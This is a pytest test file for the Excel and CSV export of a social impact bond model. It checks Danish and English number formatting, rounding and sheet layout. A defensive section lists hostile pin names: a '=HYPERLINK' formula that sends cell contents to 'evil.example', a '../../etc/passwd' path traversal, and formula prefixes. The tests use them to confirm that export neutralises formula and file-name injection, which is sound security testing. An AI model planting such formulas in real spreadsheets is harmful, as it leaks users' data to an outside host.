"""The Excel workbook and CSV zip: every sheet, with the model's own numbers."""

from __future__ import annotations

import csv
import io
import math
import re
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sib_model import (
    PRESETS,
    Scenario,
    creaming_frontier,
    evaluate,
    parking_frontier,
)
from sib_model.summary import SUMMARY_KEYS
from tests.fuzz._budget import examples
from ui.export.tables import (
    FILE_NAME_LENGTH,
    SHEET_NAME_LENGTH,
    Entry,
    csv_number,
    csv_zip_bytes,
    export_tables,
    kind_of,
    neutralise_cell,
    portable_name,
    rounded,
    workbook_bytes,
)
from ui.text.translator import Translator

EN, DA = Translator("en"), Translator("da")


NOW = Scenario(cohort_size=60, difficulty=0.7)


BEFORE = Scenario()


@pytest.fixture(scope="module")
def tables():
    entries = [
        Entry(DA("scenario_current"), NOW, evaluate(NOW)),
        Entry("Baseline", BEFORE, evaluate(BEFORE)),
        Entry("Aalborg", PRESETS["aalborg"], evaluate(PRESETS["aalborg"])),
    ]
    return export_tables(
        entries, creaming_frontier(NOW, n_points=5), parking_frontier(NOW, n_points=3), DA
    )


def test_the_workbook_holds_every_sheet_with_the_models_numbers(tables):
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(tables, DA)))
    assert book.sheetnames == [
        "Forudsætninger",
        "Resumé – Aktuelt",
        "Resumé – Baseline",
        "Resumé – Aalborg",
        "Pengestrømme",
        "Skumning af fløden",
        "Parkering",
    ]
    for sheet, scenario in (("Resumé – Aktuelt", NOW), ("Resumé – Aalborg", PRESETS["aalborg"])):
        summary = evaluate(scenario).summary
        assert [cell.value for cell in book[sheet][1]] == ["Nøgletal", "Enhed", sheet[9:]]
        rows = {row[0].value: row[2] for row in book[sheet].iter_rows(min_row=2)}
        for key in ("expected_investor_irr", "expected_commissioner_net", "deadweight_share"):
            cell = rows[DA.result(key)]
            assert cell.value == pytest.approx(summary[key], rel=5e-4, abs=0.005)
            assert cell.value == rounded(summary[key], kind_of(key))
            assert isinstance(cell.value, float)
        assert rows["Investorens afkast (IRR pr. år), forventet"].number_format == "0.0 %"
        net = rows["Kommunens netto med social investering (nutidsværdi), forventet"]
        assert net.number_format == '#,##0" kr."'
    inputs = book["Forudsætninger"]
    header = [cell.value for cell in inputs[1]]
    assert header == ["Forudsætning", "Enhed", "Betydning", "Aktuelt", "Baseline", "Aalborg"]
    rows = {row[0].value: row for row in inputs.iter_rows(min_row=2)}
    assert rows["Antal borgere"][3].value == 60
    assert rows["Antal borgere"][2].value
    assert [cell.value for cell in rows["Hvad der betales for"][3:]] == ["Hver effekt"] * 3
    cash = book["Pengestrømme"]
    assert [cell.value for cell in cash[1]][:4] == ["Scenarie", "År", "Investor", "Leverandør"]
    years = [row[1].value for row in cash.iter_rows(min_row=2) if row[0].value == "Aktuelt"]
    assert years == list(evaluate(NOW).cash_flows["year"])


def test_the_csv_zip_holds_the_same_tables_in_danish_notation(tables):
    archive = zipfile.ZipFile(io.BytesIO(csv_zip_bytes(tables, DA)))
    assert len(archive.namelist()) == len(tables)
    text = archive.read("Resumé – Aktuelt.csv").decode("utf-8-sig")
    label = DA.result("expected_investor_irr")
    line = next(row for row in text.splitlines() if row.startswith(f"{label};"))
    value = evaluate(NOW).summary["expected_investor_irr"]
    assert line == f"{label};andel (0–1);{csv_number(rounded(value, 'percent'), 'da')}"
    assert float(line.split(";")[2].replace(",", ".")) == pytest.approx(value, rel=5e-4)


def test_column_kinds_follow_the_models_names():
    assert kind_of("expected_investor_irr") == "percent"
    assert kind_of("investor_irr_p10") == "percent"
    assert kind_of("expected_commissioner_net") == "money"
    assert kind_of("expected_investor_moic") == "multiple"
    assert kind_of("expected_money_multiple") == "multiple"
    assert kind_of("expected_additional_outcomes") == "count"
    assert kind_of("expected_parked") == "count"
    assert kind_of("cost_per_additional_outcome") == "money"
    assert kind_of("group_success_probability") == "percent"
    assert kind_of("year") == "integer"


@pytest.mark.parametrize(
    ("value", "kind", "danish", "english"),
    [
        # The values of issue 20, item 3, as they were written before.
        (250.00000000000006, "money", "250", "250"),
        (-2999999.9999999995, "money", "-3000000", "-3000000"),
        (-583333.3333333334, "money", "-583333,33", "-583333.33"),
        (99.99999999999999, "count", "100", "100"),
        (74.92347104, "count", "74,92", "74.92"),
        (0.30000000000000004, "percent", "0,3", "0.3"),
        (0.12076543, "percent", "0,1208", "0.1208"),
        (3.4152142020071975e-09, "percent", "0", "0"),
        (-0.0, "money", "0", "0"),
        (-1e-12, "percent", "0", "0"),
        (0.00001234, "percent", "0,000012", "0.000012"),
        (1.1428571428571428, "multiple", "1,143", "1.143"),
        (12345.678, "number", "12346", "12346"),
        (3.0, "integer", "3", "3"),
        (math.nan, "money", "", ""),
    ],
)
def test_an_exported_number_is_rounded_to_what_it_means_and_written_for_a_spreadsheet(
    value, kind, danish, english
):
    assert csv_number(rounded(value, kind), "da") == danish
    assert csv_number(rounded(value, kind), "en") == english


# --- Users' words are data, never code (issue 19, item 3) ---------------------------------

#: Pin names an attacker can put in a link (``p1=…``), as issue 19 lists them.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A2,"Klik")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1+1",
    "＝1+1",
    '"; =1; "',
    "../../etc/passwd",
    "CON",
    ".hidden",
    "Æblegrød – ø/å: \"citat\" 'x' *?<>|",
    "\u202eevil\u200b",
    "x" * 500,
)
#: Excel and LibreOffice read a cell starting with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A portable sheet or file name: letters, digits, a little punctuation; no leading dot, dash
#: or space, no trailing dot or space.
PORTABLE = re.compile(r"[\w,()&](?:[\w \-.,()–&]*[\w,()&–-])?")

names = st.lists(
    st.one_of(st.sampled_from(HOSTILE_NAMES), st.text(max_size=120)), min_size=1, max_size=4
)
RESULT = evaluate(NOW)
CREAMING, PARKING = creaming_frontier(NOW, n_points=3), parking_frontier(NOW, n_points=3)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HOSTILE_NAMES[0], "'" + HOSTILE_NAMES[0]),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Aalborg", "Aalborg"),
        ("", ""),
        (-1.5, -1.5),
        (0, 0),
        (None, None),
    ],
)
def test_a_text_cell_that_starts_like_a_formula_gets_an_apostrophe_and_numbers_stay(text, written):
    assert neutralise_cell(text) == written


def _tables(pins: list[str], t: Translator):
    entries = [Entry(t("scenario_current"), NOW, RESULT)]
    entries += [Entry(name, NOW, RESULT) for name in pins]
    return export_tables(entries, CREAMING, PARKING, t)


def _is_number(cell: str, t: Translator) -> bool:
    try:
        float(cell.replace(",", ".") if t.lang == "da" else cell)
    except ValueError:
        return False
    return True


@settings(max_examples=examples(25, 500), deadline=None)
@given(pins=names, t=st.sampled_from([EN, DA]))
def test_no_csv_cell_of_any_table_starts_a_formula_whatever_the_pin_names(pins, t):
    tables = _tables(pins, t)
    archive = zipfile.ZipFile(io.BytesIO(csv_zip_bytes(tables, t)))
    entries = archive.namelist()
    assert len(entries) == len(tables)
    assert len({e.lower() for e in entries}) == len(entries)
    sep = ";" if t.lang == "da" else ","
    for entry, table in zip(entries, tables, strict=True):
        stem = entry.removesuffix(".csv")
        assert entry.endswith(".csv")
        assert 0 < len(stem) <= FILE_NAME_LENGTH
        assert PORTABLE.fullmatch(stem), entry
        text = archive.read(entry).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
        frame = table.frame
        assert len(rows) == len(frame) + 1
        for cell, column in zip(rows[0], frame.columns, strict=True):
            assert cell == neutralise_cell(str(column))
        for row, values in zip(rows[1:], frame.itertuples(index=False), strict=True):
            for cell, value in zip(row, values, strict=True):
                if isinstance(value, str):
                    assert cell == neutralise_cell(value)
                if cell.startswith(FORMULA_STARTS):
                    assert not isinstance(value, str), cell
                    assert _is_number(cell, t), cell
        for cell in (c for row in rows for c in row):
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell, t), cell


@settings(max_examples=examples(15, 300), deadline=None)
@given(pins=names)
def test_the_workbook_writes_every_name_as_a_string_cell_under_portable_sheet_names(pins):
    tables = _tables(pins, EN)
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(tables, EN)))
    assert len(book.sheetnames) == len(tables)
    assert len({n.lower() for n in book.sheetnames}) == len(tables)
    for name in book.sheetnames:
        assert 0 < len(name) <= SHEET_NAME_LENGTH, name
        assert PORTABLE.fullmatch(name), name
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    header = book.worksheets[0][1]
    written = tables[0].frame.columns[3:]
    for cell, name in zip(header[3:], written, strict=True):
        assert cell.data_type == "s"
        if name.isprintable():  # xlsx escapes control characters in its own way
            assert cell.value == name


def test_a_formula_looking_pin_name_is_a_string_cell_in_the_workbook():
    hostile = HOSTILE_NAMES[0]
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(_tables([hostile], EN), EN)))
    inputs = book.worksheets[0]
    cell = inputs.cell(row=1, column=5)
    assert cell.value == hostile
    assert cell.data_type == "s"
    cash = book.worksheets[-3]
    scenario_cells = [row[0] for row in cash.iter_rows(min_row=2) if row[0].value == hostile]
    assert scenario_cells
    assert all(c.data_type == "s" for c in scenario_cells)


def test_the_issues_hyperlink_pin_is_neutralised_in_every_csv_and_its_file_name():
    hostile = HOSTILE_NAMES[0]
    archive = zipfile.ZipFile(io.BytesIO(csv_zip_bytes(_tables([hostile], EN), EN)))
    assert "Summary – HYPERLINK( http evil.csv" in archive.namelist()
    inputs = archive.read(archive.namelist()[0]).decode("utf-8-sig")
    assert "'=HYPERLINK(" in inputs
    assert ",=HYPERLINK" not in inputs
    for entry in archive.namelist():
        assert not re.search(r'["/\\:*?<>|]', entry)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("../../etc/passwd", "etc passwd"),
        (".hidden", "hidden"),
        ("CON", "CON_"),
        ("a:b*c?d", "a b c d"),
        ("", "Sheet"),
        ("x" * 40, "x" * 31),
    ],
)
def test_sheet_and_file_names_are_reduced_to_portable_characters(text, name):
    assert portable_name(text, set(), SHEET_NAME_LENGTH) == name


def test_a_repeated_name_is_numbered_within_the_limit():
    used: set[str] = set()
    first = portable_name("x" * 40, used, SHEET_NAME_LENGTH)
    second = portable_name("X" * 40, used, SHEET_NAME_LENGTH)
    assert first == "x" * 31
    assert second == "X" * 27 + " (2)"


# --- Every exported number reads in the file's language (issue 20, item 3) ----------------

#: A number as a CSV cell of each language: the hyphen minus, digits, the decimal mark.
CSV_NUMBER = {"da": re.compile(r"-?\d+(,\d+)?"), "en": re.compile(r"-?\d+(\.\d+)?")}
#: A model name left in a file: lower-case words joined by underscores.
SNAKE_CASE = re.compile(r"\b[a-z0-9]+(?:_[a-z0-9]+)+\b")
SCENARIOS = {
    "default": Scenario(),
    "aalborg": PRESETS["aalborg"],
    "peterborough": PRESETS["peterborough"],
    "guarantee": Scenario(guarantee_share=0.5, payment_cap=6e6, parked_share=0.2),
}


def _significant_digits(text: str) -> int:
    """Significant digits of a plain decimal (``0,1208`` → 4, ``3000000`` → 1)."""
    whole, _, fraction = text.lstrip("-").replace(",", ".").partition(".")
    digits = (whole + fraction).lstrip("0")
    return len(digits) if fraction else len(digits.rstrip("0"))


def _precise_enough(text: str, kind: str) -> bool:
    """The precision rule of :func:`ui.export.tables.rounded`: øre for money, hundredths of a
    citizen, whole years, four significant digits (or a whole number) for the rest."""
    decimals = len(text.replace(",", ".").partition(".")[2])
    if kind in ("money", "count"):
        return decimals <= 2
    if kind == "integer":
        return decimals == 0
    return decimals == 0 or _significant_digits(text) <= 4


@pytest.fixture(scope="module", params=list(SCENARIOS))
def workshop(request):
    """A workshop's tables in both languages: the scenario, the default baseline, a pin."""
    s = SCENARIOS[request.param]
    creaming, parking = creaming_frontier(s, n_points=3), parking_frontier(s, n_points=3)
    out = {}
    for t in (EN, DA):
        entries = [
            Entry(t("scenario_current"), s, evaluate(s)),
            Entry(t("baseline"), BEFORE, evaluate(BEFORE)),
            Entry("Pin 1", NOW, RESULT),
        ]
        out[t.lang] = export_tables(entries, creaming, parking, t)
    return out


@pytest.mark.parametrize("t", [EN, DA], ids=["en", "da"])
def test_every_number_of_every_csv_parses_in_the_files_language_without_float_noise(workshop, t):
    tables = workshop[t.lang]
    archive = zipfile.ZipFile(io.BytesIO(csv_zip_bytes(tables, t)))
    sep = ";" if t.lang == "da" else ","
    for entry, table in zip(archive.namelist(), tables, strict=True):
        rows = list(csv.reader(io.StringIO(archive.read(entry).decode("utf-8-sig")), delimiter=sep))
        for label in rows[0]:
            assert not SNAKE_CASE.search(label), (entry, label)
        columns = list(table.frame.columns)
        assert len(rows) == len(table.frame) + 1
        rows_and_values = zip(rows[1:], table.frame.itertuples(index=False), strict=True)
        for k, (row, values) in enumerate(rows_and_values):
            for column, cell, value in zip(columns, row, values, strict=True):
                where = (entry, row[0], column, cell)
                if isinstance(value, str):
                    assert not SNAKE_CASE.search(cell), where
                    continue
                if cell == "":  # no value (NaN): a blank, never "nan"
                    assert not math.isfinite(value), where
                    continue
                assert CSV_NUMBER[t.lang].fullmatch(cell), where
                assert not re.fullmatch(r"-0([.,]0*)?", cell), where
                kind = table.kinds.get(column) or table.row_kinds[k]
                assert _precise_enough(cell, kind), where
                assert float(cell.replace(",", ".")) == value, where


@pytest.mark.parametrize("t", [EN, DA], ids=["en", "da"])
def test_every_number_of_the_workbook_is_a_rounded_number_under_translated_labels(workshop, t):
    tables = workshop[t.lang]
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(tables, t)))
    formats = {"da": ('#,##0" kr."', "0.0 %"), "en": ('"DKK "#,##0', "0.0%")}[t.lang]
    for sheet, table in zip(book.worksheets, tables, strict=True):
        for k, row in enumerate(sheet.iter_rows()):
            for column, cell in zip(table.frame.columns, row, strict=True):
                where = (sheet.title, cell.coordinate, cell.value)
                if k == 0 or isinstance(cell.value, str):
                    assert not SNAKE_CASE.search(str(cell.value or "")), where
                    continue
                if cell.value is None:
                    continue
                assert cell.data_type == "n", where
                value = float(cell.value)
                kind = table.kinds.get(column) or table.row_kinds[k - 1]
                assert value == rounded(value, kind), where  # already rounded: no noise
                assert value != 0 or math.copysign(1.0, value) > 0, where
                assert _precise_enough(csv_number(value, t.lang), kind), where
                if kind == "money":
                    assert cell.number_format == formats[0], where
                if kind == "percent":
                    assert cell.number_format == formats[1], where


def test_a_danish_and_an_english_workshop_share_no_labels_but_names_and_numbers(workshop):
    # Labels of a Danish file come from the Danish catalog, of an English one from English.
    for danish, english in zip(workshop["da"], workshop["en"], strict=True):
        assert list(danish.frame.columns) != list(english.frame.columns)
        assert list(danish.kinds.values()) == list(english.kinds.values())
        assert danish.row_kinds == english.row_kinds
    summary_da, summary_en = workshop["da"][1].frame, workshop["en"][1].frame
    assert list(summary_da.iloc[:, 0]) == [DA.result(key) for key in SUMMARY_KEYS]
    assert list(summary_en.iloc[:, 0]) == [EN.result(key) for key in SUMMARY_KEYS]
    assert list(summary_da.iloc[:, 2]) == list(summary_en.iloc[:, 2])
